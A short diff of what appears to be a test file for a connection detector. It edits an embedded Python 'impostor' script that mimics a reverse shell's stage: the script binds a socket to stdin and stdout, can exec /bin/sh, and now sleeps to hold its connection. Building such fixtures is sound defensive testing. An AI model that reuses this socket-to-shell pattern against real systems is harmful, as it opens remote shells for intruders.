@@ -100,7 +100,7 @@ async function floodedService(script: string): Promise<{ pid: number; answer: st
  * stdin and stdout, as a reverse shell's python stage does.
  */
 const IMPOSTOR = `
-import ctypes, os, socket, sys
+import ctypes, os, socket, sys, time
 mode, port = sys.argv[1], int(sys.argv[2])
 libc = ctypes.CDLL(None, use_errno=True)
 def disconnect(s):
@@ -121,6 +121,7 @@ except OSError as e:
 os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
 if mode == "child-shell":
     os.execv("/bin/sh", ["sh"])
+time.sleep(3)  # a stage holds its connection as a shell would (one closed before it is judged carries none)
 os._exit(0)
 `;
 
